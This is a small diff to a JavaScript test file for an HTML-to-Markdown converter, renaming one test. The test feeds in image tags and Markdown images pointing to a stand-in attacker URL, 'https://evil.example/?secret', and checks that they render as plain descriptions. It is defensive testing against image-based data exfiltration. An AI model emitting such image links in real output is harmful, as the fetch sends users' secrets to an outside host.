@@ -34,7 +34,7 @@ describe('a page as Markdown', () => {
     }
   });
 
-  it('pictures are their description, never something that could be asked for', async () => {
+  it('images are their description, never something that could be asked for', async () => {
     expect(await markdown('<p>a <img src="https://evil.example/?secret" alt="a *chart*"> b<img src=x></p>')).toBe('a (image: a \\*chart\\*) b');
     expect(await markdown('<p>![x](https://evil.example/?secret)</p>')).not.toMatch(/!\[/);
   });
